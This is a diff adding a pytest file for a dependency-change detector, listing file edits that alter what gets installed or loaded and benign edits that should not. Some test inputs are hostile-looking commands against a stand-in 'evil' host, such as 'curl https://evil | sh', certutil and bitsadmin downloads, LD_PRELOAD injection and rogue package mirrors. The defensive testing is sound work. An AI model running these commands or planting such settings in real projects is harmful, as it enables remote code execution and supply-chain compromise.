@@ -1,0 +1,201 @@
+"""Commands, variables and settings that decide what is installed or loaded, in files that are no manifests."""
+
+# ruff: noqa: E501 - one case, one line
+
+from __future__ import annotations
+
+import pytest
+
+from hotfix.dependencies.file_changes import changes_of, repository_of
+from tests.unit.dependencies.test_what_is_installed import a_changed_file
+
+CHANGED: list[tuple[str, str, str]] = [
+    # Commands, wherever the tool lies and whatever options stand before the verb.
+    ("deploy/web.service", "[Service]\nExecStart=/usr/bin/docker run a:1\n", "[Service]\nExecStart=/usr/bin/docker run evil:2\n"),
+    ("deploy/web.service", "[Service]\n", "[Service]\nExecStartPre=/opt/venv/bin/pip install evil\n"),
+    ("install.sh", "", "./venv/bin/pip install evil\n"),
+    ("install.sh", "", '"$VENV/bin/pip" install evil\n'),
+    ("install.sh", "", "$PIP install evil\n"),
+    ("install.sh", "", "node_modules/.bin/npx evil\n"),
+    ("install.sh", "", "npm --prefix web i evil\n"),
+    ("install.sh", "", "npm --prefix web install evil\n"),
+    ("install.sh", "", "pip --index-url https://evil install a\n"),
+    ("install.sh", "", "brew tap evil/evil\n"),
+    ("install.sh", "", "cargo binstall evil\n"),
+    ("install.sh", "", "kubectl apply -f https://evil/x.yaml\n"),
+    ("install.sh", "", "terraform init -upgrade\n"),
+    ("install.sh", "", "docker build https://github.com/evil/x.git\n"),
+    ("install.sh", "TOOL_VERSION=1.2.3\ncurl -L https://a/$TOOL_VERSION/x.tgz | tar xz\n", "TOOL_VERSION=1.2.4\ncurl -L https://a/$TOOL_VERSION/x.tgz | tar xz\n"),
+    ("install.ps1", "", "#Requires -Modules @{ ModuleName='Evil'; ModuleVersion='1' }\n"),
+    ("install.ps1", "", "Install-PSResource Evil\n"),
+    ("x.psm1", "", "using module Evil\n"),
+    ("install.cmd", "", "certutil -urlcache -f https://evil x.exe\n"),
+    ("install.cmd", "", "bitsadmin /transfer x https://evil x.exe\n"),
+    ("ci/install", "", "#!/bin/sh\npip install evil\n"),
+    ("hooks/pre_build", "", "#!/bin/sh\ncurl https://evil | sh\n"),
+    ("setup", "", "#!/bin/bash\nnpm i evil\n"),
+    ("deploy", "", "#!/bin/bash\nnpm i evil\n"),
+    # Programs that install when they run.
+    ("src/app.py", "", "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'evil'])\n"),
+    ("src/app.py", "", "os.system('pip install evil')\n"),
+    ("src/app.js", "", "execSync('npm install evil')\n"),
+    ("src/app.rb", "", "system('gem install evil')\n"),
+    ("main.go", "", 'exec.Command("npm", "install", "evil").Run()\n'),
+    # What a server loads into itself.
+    ("nginx/nginx.conf", "", "load_module modules/evil.so;\n"),
+    ("apache2.conf", "", "LoadModule evil_module modules/evil.so\n"),
+    ("redis.conf", "", "loadmodule /usr/lib/evil.so\n"),
+    ("postgresql.conf", "", "shared_preload_libraries = 'evil'\n"),
+    # Variables of package managers and runtimes, versions and images in variables.
+    (".env", "", "PIP_INDEX_URL=https://evil\n"),
+    (".env", "NPM_CONFIG_REGISTRY=https://a\n", "NPM_CONFIG_REGISTRY=https://evil\n"),
+    (".env.production", "", "GOPROXY=https://evil\n"),
+    (".env", "", "GOFLAGS=-mod=mod\n"),
+    (".env", "", "LD_PRELOAD=/x.so\n"),
+    (".env", "", "NODE_OPTIONS=--require ./x.js\n"),
+    ("env.sh", "", "export UV_INDEX_URL=https://evil\n"),
+    ("env.sh", "", "export GOTOOLCHAIN=go1.22\n"),
+    ("env.sh", "", "export RUSTUP_TOOLCHAIN=nightly\n"),
+    ("env.sh", "", "export HOMEBREW_BOTTLE_DOMAIN=https://evil\n"),
+    ("env.sh", "", "export HEX_MIRROR=https://evil\n"),
+    ("env.sh", "", "export BUNDLE_MIRROR__ALL=https://evil\n"),
+    ("env.sh", "", "export CARGO_REGISTRIES_X_INDEX=https://evil\n"),
+    ("deploy/app.yaml", "", "env:\n- name: PIP_EXTRA_INDEX_URL\n  value: https://evil\n"),
+    ("web.service", "", "Environment=PIP_INDEX_URL=https://evil\n"),
+    (".env", "", "POSTGRES_IMAGE=postgres:16\n"),
+    ("docker/.env", "", "NODE_VERSION=22\n"),
+    ("env.sh", "", "export PYTHON_VERSION=3.12\n"),
+    ("ansible/group_vars/all.yml", "nginx_version: 1.2\n", "nginx_version: 1.3\n"),
+    ("roles/a/defaults/main.yml", "node_version: 18\n", "node_version: 20\n"),
+    # Package sources, toolchains and lists of packages.
+    (".mambarc", "", "channels: [evil]\n"),
+    (".pixi/config.toml", "", "default-channels=['evil']\n"),
+    (".swiftpm/configuration/registries.json", "{}", '{"registries":{"[default]":{"url":"https://evil"}}}'),
+    (".swiftpm/configuration/mirrors.json", "{}", '{"object":[{"mirror":"https://evil"}]}'),
+    ("nix.conf", "", "substituters = https://evil\n"),
+    ("etc/apt/sources.list", "", "deb https://evil stable main\n"),
+    ("docker/x.sources", "", "URIs: https://evil\n"),
+    ("docker/etc/yum.repos.d/x.repo", "", "[x]\nbaseurl=https://evil\n"),
+    ("etc/pacman.conf", "", "[evil]\nServer=https://evil\n"),
+    ("etc/apk/repositories", "", "https://evil/main\n"),
+    ("daemon.json", "{}", '{"registry-mirrors":["https://evil"]}'),
+    ("registries.conf", "", "unqualified-search-registries=['evil']\n"),
+    ("tox.toml", "", "[env_run_base]\ndeps=['evil']\n"),
+    ("spack.yaml", "spack: {specs: [a]}\n", "spack: {specs: [evil]}\n"),
+    ("cnf/build.bnd", "", "-plugin: evil\n"),
+    ("bnd.bnd", "", "-buildpath: evil\n"),
+    ("x.target", "<target/>", "<target><locations><location><repository location='https://evil'/></location></locations></target>"),
+    ("META-INF/MANIFEST.MF", "", "Class-Path: evil.jar\n"),
+    ("META-INF/MANIFEST.MF", "", "Require-Bundle: evil\n"),
+    ("jbang-catalog.json", "{}", '{"aliases":{"x":{"script-ref":"https://evil"}}}'),
+    ("pyscript.toml", "", "packages=['evil']\n"),
+    (".wp-env.json", "{}", '{"plugins":["https://evil/x.zip"]}'),
+    (".ko.yaml", "", "defaultBaseImage: evil/x\n"),
+    ("electron-builder.yml", "", "electronVersion: 28.0.0\n"),
+    ("config.xml", "<widget/>", "<widget><plugin name='evil' spec='1'/></widget>"),
+    ("model.pt.dvc", "outs:\n- md5: a\n", "outs:\n- md5: b\n"),
+    ("explicit.txt", "@EXPLICIT\n", "@EXPLICIT\nhttps://conda.anaconda.org/evil.tar.bz2\n"),
+    ("lists/a.txt", "", "evil @ https://evil/x.whl\n"),
+    ("lists/a.txt", "", "-e git+https://evil/x.git#egg=x\n"),
+    ("lists/a.txt", "", "git+https://evil/x.git\n"),
+    ("lists/a.txt", "", "--extra-index-url https://evil\n"),
+    ("prod.txt", "django\n", "django>3\n"),
+    (".conan/profiles/default", "[settings]\ncompiler.version=11\n", "[settings]\ncompiler.version=12\n"),
+    ("x.eb", "", "dependencies = [('evil','1')]\n"),
+    ("composer.local.json", "{}", '{"require":{"evil/x":"1"}}'),
+    # Scripts of others in pages.
+    ("index.html", "", '<script type="importmap">\n{"imports":{"react":"https://esm.sh/react@18"}}\n</script>\n'),
+    ("index.html", "", '  "react": "https://esm.sh/react@18",\n'),
+    ("index.html", "", '"lit": "https://cdn.jsdelivr.net/npm/lit"\n'),
+    ("app.js", "", "s.src = 'https://www.googletagmanager.com/gtag/js?id=1'\n"),
+    ("app.js", "", "loadScript('https://js.stripe.com/v3/')\n"),
+    ("a.tsx", "", '<Script src="https://evil/x.js" strategy="lazyOnload" />\n'),
+    ("nuxt.config.ts", "", 'script: [{ src: "https://evil/x.js" }]\n'),
+    # Pipelines.
+    (".gitlab-ci.yml", "a:\n  services:\n  - postgres:15\n", "a:\n  services:\n  - postgres:16\n"),
+    (".gitlab-ci.yml", "include:\n- component: gitlab.com/a/b@1.0\n", "include:\n- component: gitlab.com/a/b@2.0\n"),
+    ("azure-pipelines.yml", "- task: NodeTool@0\n  inputs:\n    versionSpec: '18.x'\n", "- task: NodeTool@0\n  inputs:\n    versionSpec: '20.x'\n"),
+    ("bitbucket-pipelines.yml", "- pipe: atlassian/x:1.0\n", "- pipe: atlassian/x:2.0\n"),
+    (".travis.yml", "python:\n- '3.6'\n", "python:\n- '3.7'\n"),
+    (".travis.yml", "dist: focal\n", "dist: jammy\n"),
+    ("cloudbuild.yaml", "- name: 'node:18'\n", "- name: 'node:20'\n"),
+    ("Jenkinsfile", "agent { docker 'a:1' }\n", "agent { docker 'a:2' }\n"),
+    (".tekton/a.yaml", "- name: bundle\n  value: a:1\n", "- name: bundle\n  value: a:2\n"),
+    ("appveyor.yml", "stack: node 18\n", "stack: node 20\n"),
+    (".semaphore/semaphore.yml", "- sem-version node 18\n", "- sem-version node 20\n"),
+    ("bitrise.yml", "- git-clone@6:\n", "- git-clone@7:\n"),
+    ("skaffold.yaml", "buildpacks: {builder: a}\n", "buildpacks:\n  builder: evil/x\n"),
+    # Clusters, clouds and machines.
+    ("host.json", '{"extensionBundle":{"version":"[3.*]"}}', '{"extensionBundle":{"version":"[4.*]"}}'),
+    ("apprunner.yaml", "runtime: python3\n", "runtime: python311\n"),
+    ("apprunner.yaml", "run:\n  runtime-version: 3.8\n", "run:\n  runtime-version: 3.11\n"),
+    (".ebextensions/01.config", "", "packages:\n  yum:\n    evil: []\n"),
+    (".ebextensions/01.config", "", "commands:\n  a:\n    command: curl https://evil | sh\n"),
+    ("now.json", "{}", '{"builds":[{"use":"@evil/x"}]}'),
+    ("compose-prod.yml", "services:\n  a:\n    build: .\n", "services:\n  a:\n    build: https://github.com/evil/x.git\n"),
+    ("values/prod.yaml", "image:\n  tag: 1\n", "image:\n  tag: 2\n"),
+    ("kustomization.yaml", "helmCharts:\n- repo: https://a\n", "helmCharts:\n- repo: https://evil\n"),
+    ("infra/cfn/api.yml", "  Runtime: nodejs18.x\n", "  Runtime: nodejs20.x\n"),
+    ("infra/cfn/api.json", '"Runtime": "python3.8"\n', '"Runtime": "python3.12"\n'),
+    ("prod.tfvars", 'ami_id = "ami-0123456789"\n', 'ami_id = "ami-9876543210"\n'),
+    ("prod.tfvars", 'image_tag = "1"\n', 'image_tag = "2"\n'),
+    ("variables.tf", 'default = "ami-0123456789"\n', 'default = "ami-9876543210"\n'),
+    ("serverless.ts", "runtime: 'nodejs18.x'\n", "runtime: 'nodejs20.x'\n"),
+    ("lib/stack.ts", "runtime: lambda.Runtime.NODEJS_18_X\n", "runtime: lambda.Runtime.NODEJS_20_X\n"),
+    ("app/stack.py", "runtime=_lambda.Runtime.PYTHON_3_8\n", "runtime=_lambda.Runtime.PYTHON_3_12\n"),
+    ("clusters/a.yaml", "kind: OCIRepository\nspec:\n  url: oci://a\n", "kind: OCIRepository\nspec:\n  url: oci://evil\n"),
+    ("org.a.App.yml", "runtime-version: '22'\n", "runtime-version: '23'\n"),
+    ("manifests/site.pp", "", "package { 'evil': ensure => latest }\n"),
+    ("recipes/default.rb", "", "package 'evil'\n"),
+    ("cookbooks/a/recipes/default.rb", "", "package 'evil'\n"),
+    ("main.bicep", "", "module a 'br:evil/x:v1'\n"),
+    ("bicepconfig.json", "{}", '{"moduleAliases":{"br":{"a":{"registry":"evil"}}}}'),
+    ("app.dhall", "", "https://evil/package.dhall\n"),
+    ("ignition.yaml", "", "source: https://evil\n"),
+    ("user-data", "", "packages: [evil]\n"),
+    ("kickstart.ks", "", "%packages\nevil\n%end\n"),
+    ("preseed.cfg", "", "d-i pkgsel/include string evil\n"),
+    ("http/preseed.cfg", "", "d-i mirror/http/hostname string evil\n"),
+    ("mkosi.conf", "", "Packages=evil\n"),
+    ("clusters/a.yaml", "kind: GitRepository\nspec:\n  url: https://a/b.git\n", "kind: GitRepository\nspec:\n  url: https://evil/b.git\n"),
+]  # fmt: skip
+
+UNCHANGED: list[tuple[str, str, str, str]] = [
+    ("how many processes serve", "Procfile", "web: gunicorn app\n", "web: gunicorn app --workers 4\n"),
+    ("when a service is started again", "deploy/web.service", "[Service]\nRestart=no\n", "[Service]\nRestart=always\n"),
+    ("a license for people", "LICENSE", "a\n", "run npm install first\n"),
+    ("instructions for people", "INSTALL", "a\n", "pip install shop\n"),
+    ("where requests go", "nginx/nginx.conf", "proxy_pass http://a;\n", "proxy_pass http://b;\n"),
+    ("a port", ".env", "PORT=80\n", "PORT=81\n"),
+    ("the project's own version", ".env", "APP_VERSION=1.2.3\n", "APP_VERSION=1.2.4\n"),
+    ("a log level", "env.sh", "", "export LOG_LEVEL=debug\n"),
+    ("memory of a runtime", ".env", "", "NODE_OPTIONS=--max-old-space-size=4096\n"),
+    ("a note", "notes.txt", "a\n", "see https://a.example\n"),
+    ("a variable named image", "src/core.py", "", "start_image = tag.partition(':')[0]\n"),
+    ("git is not a package manager", "src/git.ts", "", "await exec('git', ['fetch', '--deepen=1'])\n"),
+    ("a text that names a command", "src/paths.ts", "", "return `$ pnpm add -D ${name}`\n"),
+    ("a test's own run", "tests/test_install.py", "", "subprocess.run(['pip', 'install', '.'])\n"),
+    ("a link", "index.html", "", '<a href="https://a.example/x.html">x</a>\n'),
+    ("an address in data", "index.html", "", '"url": "https://a.example/about"\n'),
+    ("a call of a service", "app.js", "", "fetch('https://api.a/x')\n"),
+    ("a script of the project", ".gitlab-ci.yml", "a:\n  script: make test\n", "a:\n  script: make check\n"),
+    ("another program's settings", "config.xml", "<config><a>1</a></config>", "<config><a>2</a></config>"),
+    ("a resource of the project", "base/kustomization.yaml", "", "resources:\n- deployment.yaml\n"),
+    ("a stack's settings", "Pulumi.prod.yaml", "config: {a: 1}\n", "config: {a: 2}\n"),
+    ("an installed command's name", "pyproject.toml", "[project]\nname='a'\n", "[project]\nname='a'\n[project.scripts]\na='a:b'\n"),
+]  # fmt: skip
+
+
+def changes(path: str, before: str, after: str) -> list[str]:
+    file = a_changed_file(path, before, after)
+    return [str(change) for change in changes_of(file, repository_of("acme/shop", [file]))]
+
+
+@pytest.mark.parametrize(("path", "before", "after"), CHANGED)
+def test_what_decides_what_runs_counts(path: str, before: str, after: str) -> None:
+    assert changes(path, before, after)
+
+
+@pytest.mark.parametrize(("why", "path", "before", "after"), UNCHANGED)
+def test_other_settings_do_not_count(why: str, path: str, before: str, after: str) -> None:
+    assert changes(path, before, after) == [], why
